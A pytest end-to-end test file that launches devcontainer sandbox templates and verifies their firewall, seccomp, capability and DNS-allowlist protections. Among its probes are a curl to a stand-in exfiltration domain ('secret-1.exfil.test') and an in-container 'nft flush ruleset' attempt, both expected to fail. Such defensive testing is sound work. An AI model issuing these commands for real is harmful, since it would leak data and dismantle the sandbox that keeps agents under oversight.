# SPDX-License-Identifier: MIT
"""The devcontainer templates brought up by the real Dev Containers CLI
(@devcontainers/cli): `devcontainer up`, terminals with `devcontainer exec`,
on the --internal test network of tests/dockerenv.py.

The CLI runs in a network namespace of its own with nothing but loopback
(the Docker socket is a file, so it still reaches dockerd), and it finds a
fresh control manifest in its cache: it never tries to reach containers.dev
or any other real host."""
import json
import os
import pwd
import re
import shutil
import subprocess
import time
import uuid

import pytest

from dockerenv import DOCKER, IMAGE, ROOT, SECCOMP_PROBE, SECCOMP_REFUSED, docker

TEMPLATES = ("init-entrypoint", "poststart")
EMPTY_CONTROL_MANIFEST = {"disallowedFeatures": [], "featureAdvisories": []}


def read_jsonc(path):
    """devcontainer.json with its whole-line // comments (all the templates use)."""
    with open(path) as f:
        return json.loads("".join(line for line in f if not line.lstrip().startswith("//")))


class DevContainer:
    """One template copied into its own workspace, pointed at the test image,
    network, DNS server and policy; HOME and TMPDIR of the CLI are the test's."""

    def __init__(self, env, base, template, policy):
        self.label = f"agent-sandbox-e2e={uuid.uuid4().hex[:12]}"
        self.workspace = base / "workspace"
        self.home = base / "home"                  # no .config yet: the template must make it
        self.tmpdir = base / "tmp"
        for d in (self.workspace / ".devcontainer", self.home, self.tmpdir):
            d.mkdir(parents=True)
        os.chown(self.workspace, 1000, 1000)
        cfg = read_jsonc(os.path.join(ROOT, "devcontainer", template, "devcontainer.json"))
        cfg["image"] = IMAGE
        cfg["runArgs"] = cfg["runArgs"] + [f"--network={env.network}", f"--dns={env.dns_ip}"]
        cfg["mounts"] = cfg["mounts"] + [
            f"source={policy},target=/etc/agent-sandbox/policy.yaml,type=bind,readonly"]
        (self.workspace / ".devcontainer" / "devcontainer.json").write_text(json.dumps(cfg, indent=2))
        shutil.copy(os.path.join(ROOT, "devcontainer", template, "agent-sandbox-seccomp.json"),
                    self.workspace / ".devcontainer")

    def cli(self, verb, *args, timeout=180):
        # The CLI refreshes its control manifest from containers.dev when the
        # cached copy is older than five minutes; a fresh one means no attempt.
        cache = self.tmpdir / f"devcontainercli-{pwd.getpwuid(os.geteuid()).pw_name}"
        cache.mkdir(exist_ok=True)
        (cache / "control-manifest.json").write_text(json.dumps(EMPTY_CONTROL_MANIFEST))
        env = dict(os.environ, HOME=str(self.home), TMPDIR=str(self.tmpdir))
        cmd = ["unshare", "--net", shutil.which("devcontainer"), verb, "--workspace-folder",
               str(self.workspace), "--docker-path", DOCKER, "--id-label", self.label, *args]
        r = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=timeout)
        assert "control manifest" not in r.stderr, r.stderr
        return r

    def exec_(self, script):
        return self.cli("exec", "bash", "-c", script, timeout=60)

    def containers(self):
        return docker("ps", "-aq", "--filter", f"label={self.label}").stdout.split()

    def remove(self):
        """Remove the container and the home volume the template made for it."""
        for c in self.containers():
            mounts = json.loads(docker("inspect", c).stdout)[0]["Mounts"]
            docker("rm", "-f", c)
            for m in mounts:
                if m["Type"] == "volume" and m["Name"].startswith("agent-sandbox-home-"):
                    docker("volume", "rm", m["Name"])
        assert not self.containers()


def policy_text(env):
    return f"domains: [allowed.test, \"*.wild.test\"]\ncidrs: [{env.allowed_ip}/32]\nports: [80]\n"


@pytest.fixture
def devcontainer_cli():
    if shutil.which("devcontainer") is None:
        pytest.skip("the Dev Containers CLI is missing: scripts/install-deps.sh test installs it")


@pytest.fixture(params=TEMPLATES)
def devcontainer(request, dockerenv, devcontainer_cli, tmp_path):
    policy = dockerenv.policy(policy_text(dockerenv), f"devcontainer-{request.param}.yaml")
    dc = DevContainer(dockerenv, tmp_path, request.param, policy)
    try:
        yield request.param, dc
    finally:
        dc.remove()


def result_line(up):
    """`devcontainer up` ends its stdout with one JSON object."""
    return json.loads(up.stdout.strip().splitlines()[-1])


def test_template_up_applies_firewall_and_runs_as_dev(dockerenv, devcontainer):
    template, dc = devcontainer
    up = dc.cli("up")
    assert up.returncode == 0, up.stdout + up.stderr
    result = result_line(up)
    assert result["outcome"] == "success" and result["remoteUser"] == "dev", result
    assert (dc.home / ".config" / "agent-sandbox" / "policy.d").is_dir()
    [cid] = dc.containers()
    state = json.loads(docker("inspect", cid).stdout)[0]["State"]
    pid1 = os.readlink(f"/proc/{state['Pid']}/exe")
    if template == "init-entrypoint":
        assert pid1 == "/usr/sbin/agent-sandbox-init", pid1
        assert "supervising" in docker("logs", cid).stderr
        # The template's healthcheck passes once the init has reported ready.
        deadline = time.monotonic() + 30
        while (health := docker("inspect", "-f", "{{.State.Health.Status}}", cid).stdout.strip()) != "healthy":
            assert health == "starting" and time.monotonic() < deadline, health
            time.sleep(0.5)
    else:
        assert pid1 != "/usr/sbin/agent-sandbox-init", pid1
        assert "sandbox ready" in up.stderr, up.stderr

    tables = [o["table"] for o in json.loads(dockerenv.ruleset(cid))["nftables"] if "table" in o]
    assert {"family": "inet", "name": "agent_sandbox"} in [
        {"family": t["family"], "name": t["name"]} for t in tables], tables

    r = dc.exec_("cat /proc/sys/net/ipv4/ip_unprivileged_port_start")
    assert r.stdout.strip() == "1024", (r.stdout, r.stderr)

    r = dc.exec_("id -un; pwd; grep -E '^Cap(Inh|Prm|Eff|Amb)' /proc/self/status")
    lines = r.stdout.splitlines()
    assert lines[:2] == ["dev", "/workspace"], r.stdout + r.stderr
    assert len(lines) == 6, lines
    for line in lines[2:]:
        assert int(line.split()[1], 16) == 0, line

    # The template's seccomp profile is in force for the terminals.
    r = dc.exec_(SECCOMP_PROBE)
    assert r.stdout == SECCOMP_REFUSED, (r.stdout, r.stderr)

    r = dc.exec_("curl -sS -o /dev/null -w '%{http_code}' --max-time 5 http://allowed.test/")
    assert r.stdout == "200", (r.stdout, r.stderr)

    if template == "init-entrypoint":
        # The sandbox's resolver: a name under the policy's wildcard works
        # on the first connection; a name the policy does not allow does
        # not resolve, and the query never reaches the network's DNS server.
        r = dc.exec_("curl -sS -o /dev/null -w '%{http_code}' --max-time 5 http://deep.x.wild.test/")
        assert r.stdout == "200", (r.stdout, r.stderr)
        r = dc.exec_("curl -sS --max-time 5 http://secret-1.exfil.test/; echo rc=$?")
        assert "rc=6" in r.stdout, (r.stdout, r.stderr)
        log = dockerenv.dns_log()
        assert "wild.test" in log and "secret-1" not in log, log

    t0 = time.monotonic()
    r = dc.exec_(f"curl -sS --max-time 5 http://{dockerenv.blocked_ip}/; echo rc=$?")
    elapsed = time.monotonic() - t0
    assert "rc=7" in r.stdout, (r.stdout, r.stderr)   # refused, not a timeout
    assert "Failed to connect" in r.stderr, r.stderr
    assert elapsed < 5, elapsed                       # the CLI itself takes about a second

    before = dockerenv.ruleset(cid, stable=True)     # after the blocked try: its reject counter moved
    r = dc.exec_("nft flush ruleset; echo rc=$?; /usr/sbin/agent-sandbox-init apply; echo rc=$?")
    codes = re.findall(r"rc=(\d+)", r.stdout)
    assert len(codes) == 2 and all(c != "0" for c in codes), (r.stdout, r.stderr)
    assert dockerenv.ruleset(cid, stable=True) == before


def test_template_with_broken_policy_does_not_start(dockerenv, devcontainer_cli, tmp_path):
    """A policy that fails to load means no usable container for either
    template: `devcontainer up` reports an error and nothing keeps running."""
    policy = dockerenv.policy("domains: [allowed.test\n", "devcontainer-broken.yaml")
    for template in TEMPLATES:
        dc = DevContainer(dockerenv, tmp_path / template, template, policy)
        try:
            up = dc.cli("up")
            assert up.returncode != 0, up.stdout + up.stderr
            assert result_line(up)["outcome"] == "error", up.stdout
            assert "is invalid" in up.stderr + "".join(docker("logs", c).stderr for c in dc.containers())
            [cid] = dc.containers()
            assert dockerenv.exited(cid, timeout=10) is not None, template
        finally:
            dc.remove()
